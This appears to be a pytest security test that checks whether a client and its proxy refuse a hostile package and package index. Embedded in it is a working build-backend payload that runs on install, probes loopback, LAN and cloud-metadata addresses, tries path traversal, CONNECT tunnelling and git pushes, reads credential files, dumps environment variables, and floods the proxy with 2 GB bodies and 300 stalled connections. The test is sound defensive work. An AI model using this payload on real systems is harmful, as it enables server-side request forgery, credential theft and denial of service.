"""A hostile package, and the hostile index that serves it, on a real local node: what the client refuses."""

import contextlib
import http.server
import json
import os
import re
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.support.lab import Lab
from tests.support.servers import PASSWORD, Reply, make_repository, page, serve_git, serve_replies

pytestmark = [pytest.mark.prove, pytest.mark.timeout(600)]

BACKEND = '[build-system]\nrequires = []\nbuild-backend = "attack"\nbackend-path = ["."]\n'
METADATA = "http://169.254.169.254"
MOST_MB = 100
OWN = """
import os
def prepare_metadata_for_build_wheel(folder, settings=None):
    os.mkdir(folder + "/mine-1.0.dist-info")
    with open(folder + "/mine-1.0.dist-info/METADATA", "w") as stream:
        stream.write("Metadata-Version: 2.1\\nName: mine\\nVersion: 1.0\\n")
    return "mine-1.0.dist-info"
"""
ATTACK = '''
"""Runs on the node, as the build backend of a package: asks for all that the client may reach."""
import base64, glob, gzip, http.client, json, os, re, socket, threading, time
from urllib.parse import urlsplit

PLACE = urlsplit(os.environ["http_proxy"])
LOGIN = "Basic " + base64.b64encode(f"{PLACE.username}:{PLACE.password}".encode()).decode()
INDEX = os.environ["PIP_INDEX_URL"]
HOST = "/".join(INDEX.split("/")[:3])


def ask(url, method="GET", body=b"", **headers):
    line = http.client.HTTPConnection(PLACE.hostname, PLACE.port, timeout=60)
    try:
        line.request(method, url, body, {"Proxy-Authorization": LOGIN, **headers})
        answer = line.getresponse()
        data = answer.read()
        data = gzip.decompress(data) if answer.headers["Content-Encoding"] == "gzip" else data
        return [answer.status, data.decode(errors="replace")[:2000]]
    except OSError as error:
        return [0, repr(error)]
    finally:
        line.close()


def large():
    """Send a body of 2 GB, until it is refused."""
    line = socket.create_connection((PLACE.hostname, PLACE.port), timeout=60)
    line.sendall(f"POST {INDEX}/evil/ HTTP/1.1\\r\\nHost: x\\r\\nProxy-Authorization: {LOGIN}\\r\\n"
                 f"Content-Length: {2**31}\\r\\n\\r\\n".encode())
    sent = 0
    try:
        while sent < 2**31:
            sent += line.send(bytes(2**20))
    except OSError:
        pass
    return sent


def many():
    """Hold 300 connections, each with a head that does not end."""
    lines = []
    for _ in range(300):
        try:
            line = socket.create_connection((PLACE.hostname, PLACE.port), timeout=10)
            lines.append(line)
            line.sendall(b"GET http://x/ HTTP/1.1\\r\\n" + b"X: " + b"x" * 30000 + b"\\r\\n")
        except OSError:
            pass
    threads = [threading.Thread(target=flood, args=(line,)) for line in lines]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    [line.close() for line in lines]
    return len(lines)


def flood(line):
    line.settimeout(5)
    try:
        for _ in range(300):
            line.sendall(bytes(2**20))
    except OSError:
        pass


def main():
    found = {f"asked for {url}": ask(url) for url in URLS}
    for path in ("/private", "/simple/evil/../../private", "/simple/%2e%2e/private", "/pypi/any/json"):
        found[f"path {path}"] = ask(HOST + path)
    for link in re.findall('href="([^"]*)"', ask(INDEX + "/evil/")[1]):
        if "evil" not in link.rpartition("/")[2]:
            found["link " + link.rpartition("/")[2]] = ask(link)
    for url in URLS:
        found[f"CONNECT to {url}"] = ask(urlsplit(url).netloc, "CONNECT")
    for method in ("POST", "PUT", "DELETE"):
        found[f"{method} to the index"] = ask(INDEX + "/evil/", method, b"x" * 1000)
    text = "".join(open(name).read() for name in glob.glob(os.path.expanduser("~/awsddp/env/*/awsddp/*.txt")))
    git = re.search(r"git\\+(http://\\S+?/org/)mine.git", text)[1]
    for name in ("other.git/info/refs?service=git-upload", "mine.git/info/refs?service=git-receive"):
        found[f"git {name}"] = ask(git + name + "-pack")
    found["git push"] = ask(git + "mine.git/git-receive-pack", "POST", b"0000")
    found["own repository"] = ask(git + "mine.git/info/refs?service=git-upload-pack")
    found["passwords"] = [0, str("canary" in text + json.dumps(dict(os.environ)))]
    threads = [threading.Thread(target=large) for _ in range(8)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    found["connections"] = [many(), ""]
    found["after all"] = ask(INDEX + "/evil/")
    json.dump(found, open("/tmp/attack.json", "w"))


main()
raise SystemExit("the attack is over")
'''


def get_lan_address() -> str:
    """Return the address of this machine in its network, without sending anything."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.connect(("192.0.2.1", 9))
        return str(connection.getsockname()[0])


@contextlib.contextmanager
def serve_private(host: str) -> Iterator[tuple[str, list[str]]]:
    """Serve a secret at an address; yield its URL and the requests that it received."""
    requests: list[str] = []

    class Service(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "6")
            self.end_headers()
            self.wfile.write(b"SECRET")

        do_HEAD = do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer((host, 0), Service) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{host}:{server.server_port}", requests
        server.shutdown()


def read_peak_mb(pid: int) -> float:
    """Return the highest memory use of a process in MB, 0 for one that has ended."""
    with contextlib.suppress(OSError):
        if match := re.search(r"VmHWM:\s+(\d+)", Path(f"/proc/{pid}/status").read_text()):
            return int(match[1]) / 1024
    return 0.0


def make_archive(folder: Path, urls: list[str]) -> bytes:
    """Return the source archive of the hostile package, which requests `urls`."""
    package = folder / "evil-1.0"
    package.mkdir()
    (package / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (package / "pyproject.toml").write_text(BACKEND)
    (package / "attack.py").write_text(f"URLS = {urls!r}\n{ATTACK}")
    return Path(shutil.make_archive(str(folder / "sent"), "gztar", folder, package.name)).read_bytes()


def test_a_hostile_package_and_a_hostile_page_reach_nothing_through_the_client(
    tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    """Loopback, LAN, metadata service, other paths, another repository, POST, 2 GB, 300 connections."""
    for name in ("mine", "other"):
        files = {"pyproject.toml": BACKEND, "attack.py": OWN}
        make_repository(tmp_path / "repositories/org", name, files)
    lab = Lab(tmp_path)
    lab.environ |= {"PIP_CONFIG_FILE": os.devnull, "no_proxy": "*"}
    lab.environ = {
        key: value for key, value in lab.environ.items() if key[:4] != "PIP_" or key == "PIP_CONFIG_FILE"
    }
    lab.script("train.py", "print('it trains')\n")
    replies: dict[str, Reply] = {}
    with (
        contextlib.closing(lab),
        serve_private("127.0.0.1") as (loopback, loopback_requests),
        serve_private(get_lan_address()) as (lan, lan_requests),
        serve_replies(replies) as index,
        serve_git(tmp_path / "repositories", password=PASSWORD) as git,
    ):
        hostile = [loopback, lan, METADATA]
        text = json.dumps({"description": " ".join(f"{url}/" for url in hostile)})
        links = (
            f"{url}/{name}-1.0.whl"
            for url, name in zip(hostile, ("loopback", "lan", "metadata"), strict=True)
        )
        moved = "/files/moved-1.0.whl"
        replies |= {
            "/simple/evil/": page("/files/evil-1.0.tar.gz", moved, *links),
            "/files/evil-1.0.tar.gz": Reply(make_archive(tmp_path, [f"{url}/private" for url in hostile])),
            moved: Reply(status=302, headers={"location": f"{loopback}/private"}),
            "/private": Reply(b"SECRET"),
            "/pypi/any/json": Reply(text.encode(), headers={"content-type": "application/json"}),
        }
        requirement = f"mine @ git+http://reader:{PASSWORD}@127.0.0.1:{git.port}/org/mine.git"
        lab.script(
            "requirements.txt",
            f"--index-url http://reader:{PASSWORD}@127.0.0.1:{index.port}/simple\nevil\n{requirement}\n",
        )
        up = lab.run("up", "--local", "--nodes", "1", "-y", timeout=400)
        assert up.returncode == 0, up.stderr
        client = lab.start("train", "train.py", "--env", "requirements.txt")
        peak = 0.0
        while client.poll() is None:
            peak = max(peak, read_peak_mb(client.pid))
            time.sleep(0.05)
        stderr = client.communicate()[1].decode()
        assert "no packages come from there" in stderr, stderr
        report = json.loads(lab.run("exec", "--", "cat", "/tmp/attack.json").stdout.partition(" ")[2])
    codes = {name: status for name, (status, _) in report.items()}
    assert (codes.pop("own repository"), codes.pop("after all"), report.pop("passwords")[1]) == (
        200,
        200,
        "False",
    )
    assert codes.pop("connections") > 0 and codes.pop("passwords") == 0
    assert set(codes.values()) <= {403, 501}, report
    assert sum(name.startswith("link ") for name in codes) == 4
    assert not loopback_requests and not lan_requests and "SECRET" not in json.dumps(report)
    assert not [line for line in index.requests if "private" in line or line.startswith(("POST", "PUT"))]
    assert not [line for line in git.requests if "other" in line or "receive" in line]
    record_property("says", f"the client had {peak:.0f} MB at most")
    assert peak < MOST_MB
